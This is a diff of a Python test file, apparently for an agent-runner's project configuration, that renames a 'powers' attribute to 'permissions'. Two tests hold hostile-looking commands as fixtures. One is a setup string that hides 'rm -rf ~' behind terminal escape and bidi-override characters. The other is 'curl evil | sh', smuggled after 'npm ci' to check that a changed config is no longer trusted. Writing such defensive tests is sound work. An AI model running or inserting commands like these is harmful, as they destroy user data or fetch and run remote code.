@@ -58,7 +58,7 @@ def test_of_every_key_it_is_decided_whether_it_gives_power() -> None:
 
 
 def test_everything_the_projects_file_would_have_us_do_is_told_in_its_order(project: Path) -> None:
-    assert loaded(project, EVERYTHING).powers == (
+    assert loaded(project, EVERYTHING).permissions == (
         "setup: npm ci",
         "default agent: claude2",
         "link: node_modules",
@@ -81,36 +81,36 @@ def test_everything_the_projects_file_would_have_us_do_is_told_in_its_order(proj
 
 def test_what_lets_agents_out_or_the_operators_settings_in_is_a_power(project: Path) -> None:
     config = loaded(project, "confine = 'off'\n[agents.claude]\noperator_settings = true")
-    assert config.powers == (
+    assert config.permissions == (
         "confine: off; agents are not kept out of the checkout",
         "agent claude is of the kind claude",
         "agent claude loads your own settings, hooks and servers",
     )
-    assert loaded(project, "confine = 'auto'").powers == ()
+    assert loaded(project, "confine = 'auto'").permissions == ()
 
 
 def test_what_makes_nothing_less_safe_is_no_power(project: Path) -> None:
     config = loaded(
         project, "isolation = 'worktree'\nallow_dirty = false\ncopy = []\ncheck_timeout = 1\n[timeouts]\n[agents]"
     )
-    assert config.powers == ()
+    assert config.permissions == ()
 
 
 def test_what_the_user_says_is_no_power_of_the_project(project: Path, own_home: Path) -> None:
     user_says(own_home, EVERYTHING)
     config = load(project, environ={"HOME": str(own_home), "AOT_AGENT": "x"}, flags={"setup": "make", "copy": ["a"]})
-    assert (config.powers, config.source) == ((), None)
+    assert (config.permissions, config.source) == ((), None)
 
 
 def test_powers_do_not_depend_on_what_the_user_says(project: Path, own_home: Path) -> None:
-    powers = loaded(project, EVERYTHING).powers
+    permissions = loaded(project, EVERYTHING).permissions
     user_says(own_home, "copy = ['mine']\n[agents.zeta]\nargv = ['mine']")
     environ = {"HOME": str(own_home), "AOT_AGENT": "x", "AOT_WORKTREES": "/x"}
-    assert load(project, environ=environ, flags={"setup": "mine", "isolation": "worktree"}).powers == powers
+    assert load(project, environ=environ, flags={"setup": "mine", "isolation": "worktree"}).permissions == permissions
 
 
 def test_no_two_files_of_different_power_look_the_same(project: Path) -> None:
-    """Commas, quotes and lines that look like other powers stay within their own text."""
+    """Commas, quotes and lines that look like other permissions stay within their own text."""
     twins = [
         ("copy = ['a', 'b']", "copy = ['a, b']"),
         ("[agents.x]\nargv = ['a', 'b']", "[agents.x]\nargv = ['a b']"),
@@ -120,21 +120,21 @@ def test_no_two_files_of_different_power_look_the_same(project: Path) -> None:
         ("[agents.x]\nkind = 'shell'", "[agents.x]\nargv = ['of', 'the', 'kind', 'shell']"),
     ]
     for one, other in twins:
-        assert loaded(project, one).powers != loaded(project, other).powers
+        assert loaded(project, one).permissions != loaded(project, other).permissions
 
 
 def test_hostile_text_is_told_as_it_is(project: Path) -> None:
     """Making it harmless for a terminal is the business of whoever prints it."""
     command = "true #\r\x1b[2K\u202e hsilbup\nrm -rf ~"
-    assert loaded(project, f"setup = {msgspec.json.encode(command).decode()}").powers == (f"setup: {command}",)
+    assert loaded(project, f"setup = {msgspec.json.encode(command).decode()}").permissions == (f"setup: {command}",)
 
 
 def test_powers_are_accepted_by_the_path_of_the_file_and_asked_again_when_they_change(project: Path) -> None:
     config = loaded(project, EVERYTHING)
-    assert not is_trusted(str(config.source), config.powers)
-    trust(str(config.source), config.powers)
-    assert is_trusted(str(config.source), load(project).powers)
+    assert not is_trusted(str(config.source), config.permissions)
+    trust(str(config.source), config.permissions)
+    assert is_trusted(str(config.source), load(project).permissions)
     project_says(project, EVERYTHING.replace("npm ci", "npm ci; curl evil | sh"))
-    assert not is_trusted(str(config.source), load(project).powers)
+    assert not is_trusted(str(config.source), load(project).permissions)
     project_says(project, EVERYTHING.replace('check_timeout = "1h"', 'check_timeout = "2h"'))
-    assert is_trusted(str(config.source), load(project).powers)
+    assert is_trusted(str(config.source), load(project).permissions)
